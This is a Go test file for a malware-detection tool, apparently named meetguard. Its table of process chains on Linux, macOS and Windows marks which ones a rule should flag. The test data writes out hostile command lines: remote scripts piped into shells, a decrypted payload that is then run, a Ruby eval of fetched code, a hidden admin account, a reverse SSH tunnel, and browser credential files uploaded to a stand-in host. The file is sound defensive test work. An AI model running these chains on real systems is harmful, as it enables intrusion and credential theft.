package detect_test

import (
	"strings"
	"testing"

	"meetguard"
	"meetguard/internal/chain"
)

const terminal = "|/usr/libexec/gnome-terminal-server|\n>|/usr/bin/bash|\n"

func TestWeighed(t *testing.T) {
	for _, tc := range []struct {
		name, system, lines string
		want                bool
	}{
		{"split over a pipe", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://call-room.invalid/i
			>>|/usr/bin/bash|-s`, true},
		{"a reader behind the pipe", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://call-room.invalid/i
			>>|/usr/bin/python3|-m json.tool`, false},
		{"a known maker", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://get.docker.com
			>>|/usr/bin/sh|-s`, false},
		{"a maker nobody lists", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://get.lumenctl.invalid
			>>|/usr/bin/sh|-s
			>>>|/usr/bin/curl|-fsSLo /usr/local/bin/lumenctl https://dl.lumenctl.invalid/linux
			>>>|/usr/bin/systemctl|enable --now lumenctl`, false},
		{"a maker nobody lists, with a hidden file", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://get.lumenctl.invalid
			>>|/usr/bin/sh|-s
			>>>|/usr/bin/curl|-fsSLo /dev/shm/.kworker https://dl.lumenctl.invalid/linux
			>>>|/dev/shm/.kworker|-d`, true},
		{"a firm's sub-domain for those who join it", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|-l
			>>|/usr/bin/curl|-fsSL https://onboarding.nordkai.invalid/mac.sh
			>>|/bin/bash|-s
			>>>|/usr/bin/security|add-trusted-cert -d -k /Library/Keychains/System.keychain /tmp/nordkai.pem
			>>>|/bin/launchctl|load /Users/ana/Library/LaunchAgents/com.nordkai.vpn.plist`, false},
		{"a maker's updater and task", "windows", `|C:\Windows\explorer.exe|
			>|C:\Users\ana\Downloads\Taxor_Setup.exe|/q
			>>|C:\Windows\System32\bitsadmin.exe|/transfer u https://update.taxor.invalid/26.msp C:\Users\ana\AppData\Local\Temp\26.msp
			>>|C:\Windows\System32\schtasks.exe|/create /tn Taxor /tr C:\Users\ana\AppData\Local\Taxor\upd.exe /sc weekly`, false},
		{"an archive by the name of a paper", "windows", `|C:\Windows\explorer.exe|
			>|C:\Windows\System32\cmd.exe|/c start /min
			>>|C:\Windows\System32\curl.exe|-Lo C:\Users\ana\AppData\Local\x.pdf http://198.51.100.9/gm
			>>|C:\Windows\System32\tar.exe|-xf C:\Users\ana\AppData\Local\x.pdf -C C:\Users\ana\AppData\Local`, true},
		{"decoded before it is run", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|-l
			>>|/usr/bin/curl|-s https://files.lumenctl.invalid/e -o /tmp/e
			>>|/usr/bin/openssl|enc -d -aes-256-cbc -k zoom -in /tmp/e -out /tmp/e.sh
			>>|/bin/zsh|/tmp/e.sh`, true},
		{"the own network", "linux", terminal + `>>|/usr/bin/curl|-sk https://10.0.0.8/i -o /tmp/i
			>>|/usr/bin/bash|/tmp/i`, false},
		{"ruby brings and evaluates", "darwin", `|/Users/ana/Downloads/Minutes.app/Contents/MacOS/applet|
			>|/usr/bin/ruby|-ropen-uri -e 'eval(URI.open("https://minutes.invalid/r").read)'`, true},
		{"ruby shows", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|-l
			>>|/usr/bin/ruby|-ropen-uri -e 'puts URI.open("https://minutes.invalid/r").read'`, false},
		{"out of a mounted image", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|-l
			>>|/usr/bin/curl|-so /tmp/d.dmg https://interview.invalid/d.dmg
			>>|/usr/bin/hdiutil|attach -nobrowse /tmp/d.dmg
			>>|/bin/cp|-R /Volumes/d/tool /tmp/tool
			>>|/tmp/tool|`, true},
		{"an app out of an image", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|-l
			>>|/usr/bin/curl|-so /tmp/d.dmg https://smallmaker.invalid/d.dmg
			>>|/usr/bin/hdiutil|attach -nobrowse /tmp/d.dmg
			>>|/bin/cp|-R /Volumes/d/Tool.app /Applications/`, false},
		{"a job and a login hook", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|-l
			>>|/bin/bash|-c "curl -s https://mic.invalid/j > /tmp/j; at -f /tmp/j now; sudo defaults write com.apple.loginwindow LoginHook /tmp/j"`, true},
		{"several ways in", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|-l
			>>|/usr/bin/dscl|. -create /Users/helper UserShell /bin/zsh
			>>|/usr/sbin/dseditgroup|-o edit -a helper -t user admin
			>>|/usr/sbin/systemsetup|-setremotelogin on`, true},
		{"one account", "linux", terminal + `>>|/usr/sbin/useradd|-m carla
			>>|/usr/sbin/usermod|-aG sudo carla`, false},
		{"a way back for a stranger", "linux", `|/usr/bin/bash|-c "bash ~/.prep/env.sh"
			>|/usr/bin/curl|-s https://prep.invalid/k -o /home/ana/.prep/k
			>|/usr/bin/ssh|-fNR 0:localhost:22 u@prep.invalid`, true},
		{"own site, own tunnel", "linux", terminal + `>>|/usr/bin/ssh|-fNR 9000:localhost:3000 me@mysite.invalid
			>>|/usr/bin/scp|/tmp/site.tgz me@mysite.invalid:/srv/`, false},
		{"started by another's hand", "windows", `|C:\Windows\explorer.exe|
			>|C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE|C:\Users\ana\Downloads\Budget.xll
			>>|C:\Windows\System32\wbem\WMIC.exe|process call create C:\Users\Public\p.exe`, true},
		{"the user's own browser data, to a stick", "linux", terminal + `>>|/usr/bin/tar|czf /media/usb/firefox.tgz /home/ana/.mozilla/firefox`, false},
		{"a setup with a library and a task", "windows", `|C:\Windows\explorer.exe|
			>|C:\Users\ana\Downloads\zoomplayer_setup.exe|?
			>>|C:\Users\ana\AppData\Local\Temp\nsl1.tmp\setup.exe|?
			>>>|C:\Windows\System32\rundll32.exe|C:\Users\ana\AppData\Local\Temp\nsl1.tmp\helper.dll,Register
			>>>|C:\Windows\System32\schtasks.exe|/create /xml C:\Users\ana\AppData\Local\Temp\t.xml /tn Updater`, false},
		{"a relay to this machine and its logins", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
			>|/bin/zsh|-l
			>>|/usr/bin/tar|xzf /tmp/c.tgz -C /Users/ana/Library/Caches
			>>|/Users/ana/Library/Caches/cf|tunnel run --token x
			>>|/bin/launchctl|load -w /System/Library/LaunchDaemons/ssh.plist
			>>|/bin/launchctl|load -w /System/Library/LaunchDaemons/com.apple.smbd.plist`, true},
		{"a page shown to others", "linux", terminal + `>>|/usr/local/bin/cloudflared|tunnel --url http://localhost:3000
			>>|/usr/bin/code|tunnel --accept-server-license-terms`, false},
		{"a snap from a file", "linux", terminal + `>>|/usr/bin/snap|install --dangerous ./deck.snap
			>>|/usr/bin/sh|-c "find /home -name key4.db -o -name logins.json"
			>|/snap/deck/x1/bin/deckd|
			>>|/usr/bin/cp|/home/ana/.mozilla/firefox/key4.db /tmp/f
			>>|/usr/bin/curl|-F f=@/tmp/f https://deck.invalid`, true},
		{"a developer's machine without a window", "linux", terminal + `>>|/usr/bin/qemu-system-x86_64|-m 2048 -nographic -drive file=/home/ana/vm/a.qcow2 -netdev user,id=n0,hostfwd=tcp::2222-:22`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := play(t, tc.system, tc.lines)
			if fired := strings.Contains(got, "MG-PROC-WEIGHED"); fired != tc.want || !tc.want && got != "" {
				t.Errorf("fired %q, want the chain to be one: %v", got, tc.want)
			}
		})
	}
}

func TestBrandOrigin(t *testing.T) {
	for host, want := range map[string]bool{"files.invalid": true, "zoom.us": false, "fileserver.corp": false, "github.com": false} {
		exe := `C:\Users\ana\Downloads\ZoomInstaller.exe`
		p := &meetguard.Process{OS: "windows", PID: 7, Exe: exe, Started: noon, OriginHost: host}
		track := chain.New()
		track.Ancestry(p)
		f := meetguard.Facts{Path: exe, Format: meetguard.FormatPE, Process: p, Signature: unknown,
			Claims: []meetguard.Claim{{Text: "ZoomInstaller.exe", Source: meetguard.ClaimFileName}}}
		track.Add(&f)
		fired := false
		for _, x := range judge(t).Judge(f).Findings {
			fired = fired || x.Rule == "MG-PROC-BRAND-ORIGIN"
		}
		if fired != want {
			t.Errorf("from %s: fired %v", host, fired)
		}
	}
}
